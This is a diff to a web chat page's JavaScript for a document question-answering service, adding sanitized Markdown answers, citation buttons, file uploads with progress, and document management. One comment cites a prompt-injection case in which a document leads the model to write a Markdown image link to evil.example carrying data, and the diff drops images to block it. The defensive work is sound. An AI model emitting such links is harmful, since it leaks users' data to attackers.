@@ -1,5 +1,6 @@
 // The web chat page: plain ES module, no build step, no network beyond this service.
-// Every text from the server is set with textContent, never innerHTML: documents and answers are untrusted.
+// Every text from the server is set with textContent, never innerHTML: documents and answers are untrusted. The one
+// exception is an answer's Markdown, which marked turns into HTML and DOMPurify sanitizes before it is inserted.
 
 const $ = (selector) => document.querySelector(selector);
 const el = (tag, className, text) => {
@@ -120,12 +121,35 @@ function showError(message) {
 
 // --- rendering -----------------------------------------------------------------------------------
 
+// The answer's Markdown as sanitized DOM, once the two vendored modules are loaded (see api/web_vendor.py); until
+// then, or without them, answers are plain text. Images are dropped: a model tricked by a document into writing
+// ![](https://evil.example/?data=...) must not make the browser send anything anywhere.
+let markdown = null;
+Promise.all([import("./vendor/marked.esm.js"), import("./vendor/purify.js")])
+  .then(([{ Marked }, { default: DOMPurify }]) => {
+    const parser = new Marked({ gfm: true, breaks: true });
+    DOMPurify.addHook("afterSanitizeAttributes", (node) => {
+      if (node.tagName === "A") {
+        node.setAttribute("target", "_blank");
+        node.setAttribute("rel", "noopener noreferrer");
+      }
+    });
+    markdown = (text) => DOMPurify.sanitize(parser.parse(text), { FORBID_TAGS: ["img", "style", "form", "input"] });
+    document.body.dataset.markdown = "on";
+  })
+  .catch(() => { document.body.dataset.markdown = "off"; });
+
+function sourceLabel(source) {
+  const meta = source.metadata ?? {};
+  const name = meta.title ?? meta.filename ?? meta.source ?? source.document_id;
+  return meta.page ? `${name}, p. ${meta.page}` : name;
+}
+
 function sourceItem(source) {
   const item = el("li");
   const details = el("details");
   const summary = el("summary");
-  const title = source.metadata?.title ?? source.metadata?.source ?? source.document_id;
-  summary.append(el("span", "", `${title} `), el("span", "score", `score ${source.score.toFixed(3)}`));
+  summary.append(el("span", "label", `${sourceLabel(source)} `), el("span", "score", `score ${source.score.toFixed(3)}`));
   details.append(summary, el("div", "snippet", source.text));
   if (source.metadata && Object.keys(source.metadata).length) {
     details.append(el("pre", "metadata", JSON.stringify(source.metadata, null, 2)));
@@ -134,18 +158,52 @@ function sourceItem(source) {
   return item;
 }
 
+// Turns "[2]" in the rendered answer into a button that opens source 2; text in code and links is left alone.
+function linkCitations(root, count, open) {
+  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT, {
+    acceptNode: (node) => (node.parentElement.closest("code, pre, a, button") ? NodeFilter.FILTER_REJECT : NodeFilter.FILTER_ACCEPT),
+  });
+  const nodes = [];
+  while (walker.nextNode()) if (/\[\d+\]/.test(walker.currentNode.nodeValue)) nodes.push(walker.currentNode);
+  for (const node of nodes) {
+    const parts = node.nodeValue.split(/(\[\d+\])/);
+    node.replaceWith(...parts.map((part) => {
+      const n = Number(part.slice(1, -1));
+      if (!/^\[\d+\]$/.test(part) || n < 1 || n > count) return document.createTextNode(part);
+      const cite = el("button", "cite", part);
+      cite.type = "button";
+      cite.title = `Open source ${n}`;
+      cite.addEventListener("click", () => open(n));
+      return cite;
+    }));
+  }
+}
+
 function addMessage(role, text = "") {
   const item = el("li", `message ${role}`);
-  const body = el("div", "text", text);
+  const body = el("div", "text");
   item.append(body);
   $("#messages").append(item);
+  if (role === "assistant") renderAnswer(body, text, []);
+  else body.textContent = text;
   item.scrollIntoView({ block: "end" });
   return item;
+}
+
+function renderAnswer(body, text, sources, open = () => {}) {
+  if (!markdown) {
+    body.textContent = text;
+    return;
+  }
+  body.classList.add("markdown");
+  body.innerHTML = markdown(text); // sanitized just above: the only innerHTML on the page
+  linkCitations(body, sources.length, open);
 }
 
 function assistantMessage() {
   const item = addMessage("assistant");
   item.dataset.state = "streaming";
+  const body = item.querySelector(".text");
   const reasoning = el("details", "reasoning");
   reasoning.append(el("summary", "", "Reasoning"), el("div", "body"));
   reasoning.hidden = true;
@@ -154,18 +212,58 @@ function assistantMessage() {
   sources.hidden = true;
   item.prepend(reasoning);
   item.append(sources);
+  let text = "";
+  let list = [];
+  let pending = false;
+  const openSource = (n) => {
+    sources.open = true;
+    const entry = sources.querySelectorAll("ol > li")[n - 1];
+    entry.querySelector("details").open = true;
+    entry.classList.add("cited");
+    setTimeout(() => entry.classList.remove("cited"), 1500);
+    entry.scrollIntoView({ block: "nearest" });
+  };
+  // Re-rendering the whole answer per token would be quadratic; once per frame is enough for the eye.
+  const render = () => {
+    pending = false;
+    renderAnswer(body, text, list, openSource);
+  };
+  const schedule = () => {
+    if (!pending) {
+      pending = true;
+      requestAnimationFrame(render);
+    }
+  };
   return {
     item,
-    appendText(text) { item.querySelector(".text").textContent += text; },
-    appendReasoning(text) { reasoning.hidden = false; reasoning.querySelector(".body").textContent += text; },
-    setSources(list) {
-      sources.hidden = list.length === 0;
-      sources.querySelector("summary").textContent = `Sources (${list.length})`;
-      sources.querySelector("ol").replaceChildren(...list.map(sourceItem));
+    appendText(piece) { text += piece; schedule(); },
+    appendReasoning(piece) { reasoning.hidden = false; reasoning.querySelector(".body").textContent += piece; },
+    setSources(found) {
+      list = found;
+      sources.hidden = found.length === 0;
+      sources.querySelector("summary").textContent = `Sources (${found.length})`;
+      sources.querySelector("ol").replaceChildren(...found.map(sourceItem));
+      schedule();
     },
     finish(state, note) {
+      render();
       item.dataset.state = state;
+      item.dataset.raw = text;
       if (note) item.append(el("div", state === "failed" ? "failure" : "meta", note));
+      if (text) {
+        const copy = el("button", "ghost copy", "Copy answer");
+        copy.type = "button";
+        copy.addEventListener("click", async () => {
+          try {
+            await navigator.clipboard.writeText(text);
+            copy.textContent = "Copied";
+          } catch {
+            copy.textContent = "Copy failed";
+          }
+          setTimeout(() => { copy.textContent = "Copy answer"; }, 1500);
+        });
+        item.append(copy);
+      }
     },
   };
 }
@@ -255,14 +353,122 @@ async function addDocuments(documents, metadatas) {
   const result = $("#add-result");
   result.textContent = "Adding…";
   try {
-    const body = await (await postJSON("api/v1/documents/add", { documents, metadatas })).json();
-    const chunks = body.documents.reduce((sum, doc) => sum + doc.chunks, 0);
-    result.textContent = `Added ${body.documents.length} document(s), ${chunks} chunk(s).`;
+    const response = await postJSON("api/v1/documents/add", { documents, metadatas });
+    const body = await response.json();
+    if (response.status === 202) {
+      result.textContent = "";
+      await followJob(body);
+    } else {
+      const chunks = body.documents.reduce((sum, doc) => sum + doc.chunks, 0);
+      result.textContent = `Added ${body.documents.length} document(s), ${chunks} chunk(s).`;
+    }
     refreshStatus();
+    loadDocuments();
     return true;
   } catch (err) {
     result.textContent = `Could not add: ${err.message}`;
     return false;
+  }
+}
+
+// One row per file: its name, a progress bar fed by the job's event stream, and its state or error.
+function uploadRow(name) {
+  const item = el("li", "upload");
+  const bar = el("progress");
+  bar.max = 1;
+  bar.value = 0;
+  item.append(el("span", "name", name), bar, el("span", "state", "uploading…"));
+  item.dataset.state = "uploading";
+  $("#uploads").prepend(item);
+  return item;
+}
+
+function showFile(row, file) {
+  const bar = row.querySelector("progress");
+  const state = row.querySelector(".state");
+  row.dataset.state = file.state;
+  if (file.chunks_total) bar.value = file.state === "done" ? 1 : file.chunks_done / file.chunks_total;
+  else if (file.state === "parsing") bar.removeAttribute("value"); // indeterminate until the chunks are known
+  const percent = Math.round((bar.position >= 0 ? bar.position : 0) * 100);
+  state.textContent = {
+    queued: "queued",
+    parsing: "reading…",
+    embedding: `${percent}% (${file.chunks_done}/${file.chunks_total} chunks)`,
+    done: `100% · ${file.chunks_total} chunks`,
+    failed: `failed: ${file.error}`,
+    cancelled: "cancelled",
+  }[file.state];
+  row.classList.toggle("failed", file.state === "failed");
+  bar.hidden = file.state === "failed" || file.state === "cancelled";
+}
+
+async function followJob(job, rows) {
+  rows ??= job.files.map((file) => uploadRow(file.name));
+  job.files.forEach((file, n) => showFile(rows[n], file));
+  const response = await request(`api/v1/jobs/${encodeURIComponent(job.id)}/events`);
+  let last = job;
+  await readEvents(response, (snapshot) => {
+    last = snapshot;
+    snapshot.files.forEach((file, n) => showFile(rows[n], file));
+  });
+  return last;
+}
+
+async function uploadFiles(files) {
+  const rows = files.map((file) => uploadRow(file.name));
+  const form = new FormData();
+  for (const file of files) form.append("files", file, file.name);
+  try {
+    const job = await (await request("api/v1/documents/upload", { method: "POST", body: form })).json();
+    await followJob(job, rows);
+  } catch (err) {
+    for (const row of rows) {
+      row.querySelector("progress").hidden = true;
+      row.dataset.state = "failed";
+      row.classList.add("failed");
+      row.querySelector(".state").textContent = `failed: ${err.message}`;
+    }
+  }
+  refreshStatus();
+  loadDocuments();
+}
+
+let documentsShown = 0;
+
+async function loadDocuments(more = false) {
+  const list = $("#doc-list");
+  const offset = more ? documentsShown : 0;
+  try {
+    const page = await getJSON(`api/v1/documents?offset=${offset}&limit=50`);
+    const items = page.documents.map((doc) => {
+      const item = el("li");
+      const meta = doc.metadata ?? {};
+      const label = meta.title ?? meta.filename ?? meta.source ?? doc.id;
+      const remove = el("button", "ghost small", "Delete");
+      remove.type = "button";
+      remove.setAttribute("aria-label", `Delete ${label}`);
+      remove.addEventListener("click", async () => {
+        remove.disabled = true;
+        try {
+          await request(`api/v1/documents/${encodeURIComponent(doc.id)}`, { method: "DELETE" });
+          item.remove();
+          refreshStatus();
+        } catch (err) {
+          remove.disabled = false;
+          showError(err.message);
+        }
+      });
+      item.append(el("span", "label", label), el("span", "score", ` ${doc.chunks} chunk(s)`), remove);
+      item.title = doc.preview;
+      return item;
+    });
+    if (more) list.append(...items);
+    else list.replaceChildren(...items);
+    documentsShown = offset + items.length;
+    $("#doc-count").textContent = `(${page.total})`;
+    $("#more-docs").hidden = documentsShown >= page.total;
+  } catch (err) {
+    list.replaceChildren(el("li", "failure", err.message));
   }
 }
 
@@ -320,18 +526,34 @@ $("#add-form").addEventListener("submit", async (event) => {
     $("#doc-title").value = "";
   }
 });
-$("#doc-files").addEventListener("change", async (event) => {
+$("#doc-files").addEventListener("change", (event) => {
   const files = [...event.target.files];
-  if (!files.length) return;
-  const texts = await Promise.all(files.map((file) => file.text()));
-  await addDocuments(texts, files.map((file) => ({ title: file.name, source: file.name })));
   event.target.value = "";
+  if (files.length) uploadFiles(files);
 });
+const drop = $("#drop");
+drop.addEventListener("click", () => $("#doc-files").click());
+drop.addEventListener("keydown", (event) => {
+  if (event.key === "Enter" || event.key === " ") $("#doc-files").click();
+});
+drop.addEventListener("dragover", (event) => {
+  event.preventDefault();
+  drop.classList.add("over");
+});
+drop.addEventListener("dragleave", () => drop.classList.remove("over"));
+drop.addEventListener("drop", (event) => {
+  event.preventDefault();
+  drop.classList.remove("over");
+  const files = [...event.dataTransfer.files];
+  if (files.length) uploadFiles(files);
+});
+$("#more-docs").addEventListener("click", () => loadDocuments(true));
 $("#search-form").addEventListener("submit", (event) => {
   event.preventDefault();
   search($("#search-query").value.trim());
 });
 
 refreshStatus();
+loadDocuments();
 if (store.chatId) openChat(store.chatId);
 else newChat();
